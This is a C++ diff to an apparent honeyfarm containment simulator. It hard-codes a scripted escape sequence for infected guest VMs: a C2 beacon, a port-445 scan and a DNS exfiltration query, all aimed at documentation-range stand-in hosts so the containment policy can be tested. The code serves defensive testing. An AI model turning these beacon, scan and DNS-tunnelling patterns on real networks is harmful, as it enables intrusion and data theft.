@@ -12,11 +12,26 @@ std::vector<uint8_t> Bytes(const std::string& text) {
   return std::vector<uint8_t>(text.begin(), text.end());
 }
 
-std::vector<EscapeStep> DefaultScript() {
-  return {{EscapeKind::kC2Beacon, 1.0},
-          {EscapeKind::kNonFarmScan, 1.5},
-          {EscapeKind::kDnsExfil, 2.0}};
-}
+// All targets are TEST-NET / documentation addresses: definitionally outside
+// any farm prefix, so a correctly configured containment policy must verdict
+// every one of these packets.
+constexpr Ipv4Address kC2Server(203, 0, 113, 37);
+constexpr uint16_t kC2Port = 6667;
+constexpr Ipv4Address kExfilDns(198, 51, 100, 53);
+const Ipv4Prefix kScanRange(Ipv4Address(192, 0, 2, 0), 24);
+constexpr uint32_t kScanProbes = 4;  // probes per kNonFarmScan step
+constexpr uint16_t kScanPort = 445;
+// Simulated local privilege escalation precedes the first escape attempt
+// (kPersonaEscalation in the ledger; nothing leaves the guest).
+constexpr double kEscalationDelayS = 0.5;
+
+struct EscapeStep {
+  EscapeKind kind;
+  double delay_s;  // after infection
+};
+constexpr EscapeStep kScript[] = {{EscapeKind::kC2Beacon, 1.0},
+                                  {EscapeKind::kNonFarmScan, 1.5},
+                                  {EscapeKind::kDnsExfil, 2.0}};
 
 }  // namespace
 
@@ -32,12 +47,8 @@ const char* EscapeKindName(EscapeKind kind) {
   return "?";
 }
 
-EscapeRuntime::EscapeRuntime(EventLoop* loop, const EscapeScriptConfig& config,
-                             Observability* obs, uint64_t seed)
-    : loop_(loop), config_(config), obs_(ObsOrDefault(obs)), rng_(seed) {
-  if (config_.steps.empty()) {
-    config_.steps = DefaultScript();
-  }
+EscapeRuntime::EscapeRuntime(EventLoop* loop, Observability* obs, uint64_t seed)
+    : loop_(loop), obs_(ObsOrDefault(obs)), rng_(seed) {
   escalations_ = obs_.metrics.RegisterCounter("persona.escalations", "count");
   attempts_ = obs_.metrics.RegisterCounter("persona.escape_attempts", "count");
 }
@@ -51,12 +62,12 @@ void EscapeRuntime::OnGuestInfected(GuestOs& guest, const PacketView& exploit) {
   instance->guest = &guest;
   instance->session = exploit.session();
   instance->pending.push_back(loop_->ScheduleAfter(
-      Duration::Seconds(config_.escalation_delay_s),
+      Duration::Seconds(kEscalationDelayS),
       [this, vm]() { FireEscalation(vm); }));
-  for (const EscapeStep& step : config_.steps) {
-    instance->pending.push_back(
-        loop_->ScheduleAfter(Duration::Seconds(step.delay_s),
-                             [this, vm, step]() { FireStep(vm, step); }));
+  for (const EscapeStep& step : kScript) {
+    instance->pending.push_back(loop_->ScheduleAfter(
+        Duration::Seconds(step.delay_s),
+        [this, vm, kind = step.kind]() { FireStep(vm, kind); }));
   }
   instances_.emplace(vm, std::move(instance));
 }
@@ -105,7 +116,7 @@ void EscapeRuntime::Emit(Instance& instance, Ipv4Address target,
                      static_cast<uint64_t>(kind));
 }
 
-void EscapeRuntime::FireStep(VmId vm, EscapeStep step) {
+void EscapeRuntime::FireStep(VmId vm, EscapeKind kind) {
   auto it = instances_.find(vm);
   if (it == instances_.end()) {
     return;
@@ -120,37 +131,37 @@ void EscapeRuntime::FireStep(VmId vm, EscapeStep step) {
   spec.dst_mac = MacAddress::FromId(1);  // the gateway answers for everything
   spec.src_ip = machine->ip();
 
-  switch (step.kind) {
+  switch (kind) {
     case EscapeKind::kC2Beacon: {
-      spec.dst_ip = config_.c2_server;
+      spec.dst_ip = kC2Server;
       spec.proto = IpProto::kTcp;
       spec.src_port = static_cast<uint16_t>(49152 + instance.rng.NextBelow(8192));
-      spec.dst_port = config_.c2_port;
+      spec.dst_port = kC2Port;
       spec.tcp_flags = TcpFlags::kSyn | TcpFlags::kPsh;
       spec.payload =
           Bytes("C2-BEACON vm=" + std::to_string(machine->ip().value()));
-      Emit(instance, config_.c2_server, step.kind);
+      Emit(instance, kC2Server, kind);
       machine->Transmit(BuildPacket(spec));
       return;
     }
     case EscapeKind::kNonFarmScan: {
-      for (uint32_t i = 0; i < config_.scan_probes; ++i) {
-        const Ipv4Address target = config_.scan_range.AddressAt(
-            instance.rng.NextBelow(config_.scan_range.NumAddresses()));
+      for (uint32_t i = 0; i < kScanProbes; ++i) {
+        const Ipv4Address target = kScanRange.AddressAt(
+            instance.rng.NextBelow(kScanRange.NumAddresses()));
         PacketSpec probe = spec;
         probe.dst_ip = target;
         probe.proto = IpProto::kTcp;
         probe.src_port =
             static_cast<uint16_t>(49152 + instance.rng.NextBelow(8192));
-        probe.dst_port = config_.scan_port;
+        probe.dst_port = kScanPort;
         probe.tcp_flags = TcpFlags::kSyn;
-        Emit(instance, target, step.kind);
+        Emit(instance, target, kind);
         machine->Transmit(BuildPacket(probe));
       }
       return;
     }
     case EscapeKind::kDnsExfil: {
-      spec.dst_ip = config_.exfil_dns;
+      spec.dst_ip = kExfilDns;
       spec.proto = IpProto::kUdp;
       spec.src_port = static_cast<uint16_t>(49152 + instance.rng.NextBelow(8192));
       spec.dst_port = 53;
@@ -162,7 +173,7 @@ void EscapeRuntime::FireStep(VmId vm, EscapeStep step) {
       query.name = "x" + std::to_string(machine->ip().value()) +
                    ".c2vjcmv0cw.exfil.test";
       spec.payload = EncodeDnsQuery(query);
-      Emit(instance, config_.exfil_dns, step.kind);
+      Emit(instance, kExfilDns, kind);
       machine->Transmit(BuildPacket(spec));
       return;
     }
